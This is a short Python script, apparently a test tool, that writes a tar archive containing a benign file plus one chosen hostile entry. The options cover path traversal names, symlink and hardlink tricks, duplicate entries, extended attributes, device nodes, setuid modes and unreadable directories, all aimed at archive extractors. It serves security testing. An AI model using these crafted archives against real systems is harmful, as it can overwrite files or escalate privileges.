"""archive.py KIND ARGUMENT...: a small tar archive with one attack, on stdout."""
import io
import sys
import tarfile


def add(tar, name, kind=tarfile.REGTYPE, target="", mode=0o644, data=b"pwned\n", device=(0, 0)):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, target, mode
    info.devmajor, info.devminor = device
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if info.size else None)


def attack(tar, kind, *words):
    if kind == "file":
        add(tar, words[0])
    elif kind == "link":
        add(tar, words[0], tarfile.SYMTYPE, words[1])
    elif kind == "link-then-file":
        add(tar, "x", tarfile.SYMTYPE, words[0])
        add(tar, "x/y")
    elif kind == "link-directory":
        add(tar, "x", tarfile.SYMTYPE, words[0])
        add(tar, "x/victim")
    elif kind == "hardlink":
        add(tar, "x", tarfile.LNKTYPE, words[0])
        add(tar, "x")
    elif kind == "hardlink-before":
        add(tar, "x", tarfile.LNKTYPE, "later")
        add(tar, "later")
    elif kind == "hardlink-directory":
        add(tar, "d", tarfile.DIRTYPE)
        add(tar, "x", tarfile.LNKTYPE, "d")
    elif kind == "twice":
        add(tar, words[0])
        add(tar, "./" + words[0], data=b"other\n")
    elif kind == "attribute":
        info = tarfile.TarInfo("x")
        info.pax_headers = {"SCHILY.xattr." + words[0]: words[1]}
        tar.addfile(info)
    elif kind == "directory":
        add(tar, words[0] + "/x", tarfile.DIRTYPE, mode=0o755)
        add(tar, words[0], tarfile.DIRTYPE, mode=0o755)
    elif kind == "closed-directory":
        add(tar, "closed", tarfile.DIRTYPE, mode=0)
        add(tar, "closed/x")
    elif kind == "device":
        add(tar, words[0], tarfile.CHRTYPE, device=(int(words[1]), int(words[2])))
    elif kind == "mode":
        add(tar, "closed", mode=int(words[0], 8))
    elif kind == "setuid":
        add(tar, words[0], mode=0o4755)


with tarfile.open(fileobj=sys.stdout.buffer, mode="w|", format=tarfile.PAX_FORMAT) as archive:
    add(archive, "good")
    attack(archive, *sys.argv[1:])
